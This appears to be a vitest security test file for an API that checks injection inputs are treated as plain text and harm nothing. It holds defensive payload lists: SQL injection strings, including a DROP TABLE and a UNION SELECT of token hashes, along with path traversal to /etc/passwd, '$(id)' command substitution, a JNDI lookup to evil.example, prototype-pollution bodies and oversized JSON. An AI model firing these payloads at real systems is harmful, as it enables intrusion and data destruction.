/** Input that means something to somebody else: SQL, prototypes, parsers. `src/http/bad-input.test.ts` has the plain mistakes. */

import { type OperationId, operationTable } from '@keyturn/contract';
import { jsonSchemasFor } from '@keyturn/contract/validators';
import { expect, it } from 'vitest';
import { overStores } from '../../src/over-stores.suite.ts';
import { routedOperations } from '../../src/routes/all.ts';
import type { TestServer } from '../../src/test-server.ts';

const USERS = '/api/external/users';
const TOKENS = '/api/api-tokens';

const METACHARACTERS = [
  "'",
  "''",
  '"',
  '`',
  ';',
  '--',
  '/*',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "' UNION SELECT hash FROM api_tokens --",
  "x' AND 1=CAST((SELECT hash FROM api_tokens) AS int) --",
  '%',
  '_',
  '%%',
  'a%n',
  'A__',
  '\\',
  '\\%',
  "\\'",
  '[a-z]',
  '*',
  '?',
  '$1',
  ':name',
  '$where',
  '{"$ne":null}',
  '../../etc/passwd',
  '$(id)',
  '{{7*7}}',
  '\u202e',
];

/** Every text that a list is filtered by. */
const FILTERS = routedOperations.flatMap((id) =>
  Object.entries(queryOf(id))
    .filter(([, schema]) => schema['type'] === 'string' && schema['enum'] === undefined)
    .map(([name]) => [id, name] as const),
);

/** Every operation with an id in its path that reads. */
const LOOK_UPS = routedOperations.filter((id) => {
  const { method, path } = operationTable[id];
  return method === 'GET' && path.includes('{');
});

function queryOf(id: OperationId): Record<string, Record<string, unknown>> {
  return (jsonSchemasFor(id).query?.['properties'] ?? {}) as Record<
    string,
    Record<string, unknown>
  >;
}

async function requireUnharmed(server: TestServer) {
  expect((await server.send('GET', USERS)).body.pagination.total).toBe(3);
  expect(server.errors).toEqual([]);
}

overStores('SQL, LIKE and other languages', (start) => {
  it.each(FILTERS)('are texts in the filters of %s: %s', async (id, name) => {
    const server = await start();
    const { key } = await server.createToken({ rate_limit_tier: 'enterprise' });
    for (const text of METACHARACTERS) {
      const path = `${operationTable[id].path}?${name}=${encodeURIComponent(text)}`;
      const { status, body } = await server.send('GET', path.replace(/\{\w+\}/, '1'), { key });
      expect([200, 400, 404]).toContain(status);
      if (id === 'users.list' && name === 'search') {
        const ids = body.data.map((user: { id: string }) => user.id);
        // Each of these stands in every id of a user, and nothing else of the list stands in any.
        expect(ids).toEqual(text === '_' ? ['user_1', 'user_2', 'user_3'] : []);
      }
    }
    await requireUnharmed(server);
  });

  it.each(LOOK_UPS)('find nothing as an id for %s', async (id) => {
    const server = await start();
    const { key } = await server.createToken({ rate_limit_tier: 'enterprise' });
    for (const text of [...METACHARACTERS, '__proto__', 'constructor', 'user_1 OR 1=1']) {
      const path = operationTable[id].path.replace(/\{\w+\}/, encodeURIComponent(text));
      const { status } = await server.send('GET', path.replace(/\{\w+\}/, 'x'), { key });
      expect([400, 404]).toContain(status);
    }
    await requireUnharmed(server);
  });

  it('are texts in what is stored, and come back as they were', async () => {
    const server = await start();
    for (const text of METACHARACTERS) {
      const { body } = await server.send('POST', TOKENS, {
        body: { name: text, description: text, scopes: [] },
      });
      const read = await server.send('GET', `${TOKENS}/${body.token.id}`);
      expect([read.body.token.name, read.body.token.description]).toEqual([text, text]);
    }
    await requireUnharmed(server);
  });

  it('are texts in headers', async () => {
    const server = await start();
    for (const text of ["'; DROP TABLE usage; --", '$jndi:ldap://evil.example/x', '%n%s%x']) {
      const headers = { 'User-Agent': text, 'Idempotency-Key': text.replaceAll(' ', '') };
      const body = { name: 'x' };
      expect((await server.send('POST', TOKENS, { headers, body })).status).toBe(201);
    }
    await requireUnharmed(server);
  });
});

overStores('JSON', (start) => {
  const PLAN = `${USERS}/user_1/plan`;
  const planOf = async (server: TestServer) =>
    (await server.send('GET', `${USERS}/user_1`)).body.data.plan;

  it.each([
    ['a prototype', '{"plan":"starter","__proto__":{"plan":"enterprise"}}'],
    ['a prototype alone', '{"__proto__":{"plan":"enterprise"}}'],
    ['an encoded prototype', '{"plan":"starter","\\u005f_proto__":{}}'],
    ['a constructor', '{"plan":"starter","constructor":{"prototype":{"x":1}}}'],
    ['a byte order mark in a name', '{"\\ufeffplan":"starter"}'],
    ['a name in capitals', '{"PLAN":"starter"}'],
    ['a list for a text', '{"plan":["starter"]}'],
    ['an object for a text', '{"plan":{"$ne":""}}'],
    ['a comment', '{"plan":"starter"/**/}'],
    ['a comma behind', '{"plan":"starter",}'],
    ['two values', '{"plan":"starter"}{"plan":"free"}'],
    ['NaN', '{"plan":NaN}'],
  ])('400 for %s, and nothing is changed', async (_what, body) => {
    const server = await start();
    expect((await server.send('PATCH', PLAN, { body })).status).toBe(400);
    expect(await planOf(server)).toBe('free');
    expect(({} as Record<string, unknown>)['plan']).toBeUndefined();
  });

  it('counts the last of two fields of one name, for checks and for the change alike', async () => {
    const server = await start();
    await server.send('PATCH', PLAN, { body: '{"plan":"no such plan","plan":"starter"}' });
    expect(await planOf(server)).toBe('starter');
    const answer = await server.send('PATCH', PLAN, { body: '{"plan":"free","plan":"gold"}' });
    expect([answer.status, await planOf(server)]).toEqual([400, 'starter']);
  });

  it.each(['1e400', '-1', '1.5', '9007199254740993', '1e21', '"5"', 'true', 'null', '[5]', '{}'])(
    '400 for the amount %s, and the balance stays',
    async (tokens) => {
      const server = await start();
      const before = (await server.send('GET', `${USERS}/user_1`)).body.data.tokenBalance;
      const body = `{"tokens":${tokens},"operation":"add"}`;
      expect((await server.send('PATCH', `${USERS}/user_1/tokens`, { body })).status).toBe(400);
      const after = (await server.send('GET', `${USERS}/user_1`)).body.data.tokenBalance;
      expect(after).toBe(before);
    },
  );

  it.each([
    '9999-12-31T23:59:59-14:00',
    '0000-01-01T00:00:00+14:00',
    '+010000-01-01T00:00:00Z',
    '-000001-01-01T00:00:00Z',
    '2026-02-30',
    '2026-02-20T25:00:00Z',
    '0',
    '1e9',
    '2026',
  ])('400 for the end %s', async (expires_at) => {
    const server = await start();
    const answer = await server.send('POST', TOKENS, { body: { name: 'x', expires_at } });
    expect([answer.status, answer.body.fields?.[0].field]).toEqual([400, 'expires_at']);
  });

  it.each([
    ['lists in lists', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['objects in objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    ['many lists', `[${'[],'.repeat(300_000)}[]]`],
    ['many names', `{${Array.from({ length: 60_000 }, (_, i) => `"k${i}":0`).join(',')}}`],
    ['a number of a million digits', '9'.repeat(1_000_000)],
    ['a text of a million escapes', `"${'\\n'.repeat(500_000)}"`],
  ])('400 for %s, in every place', async (_what, json) => {
    const server = await start();
    for (const body of [json, `{"name":${json}}`, `{"name":"x","scopes":${json}}`]) {
      const answer = await server.send('POST', TOKENS, { body });
      expect(answer.status).toBe(400);
      expect(answer.text.length).toBeLessThan(50_000);
    }
    expect(server.errors).toEqual([]);
  });

  it('415 for a compressed body, however it is called', async () => {
    const server = await start();
    for (const encoding of ['gzip', 'deflate', 'br', 'zstd', 'GZIP', 'identity, gzip', 'x']) {
      const headers = { 'Content-Type': 'application/json', 'Content-Encoding': encoding };
      const { status } = await server.send('PATCH', PLAN, { headers, body: '{"plan":"free"}' });
      expect(status).toBe(415);
    }
  });
});

it('there are filters and look-ups to attack', () => {
  expect(FILTERS).toContainEqual(['users.list', 'search']);
  expect(LOOK_UPS).toContain('users.get');
});
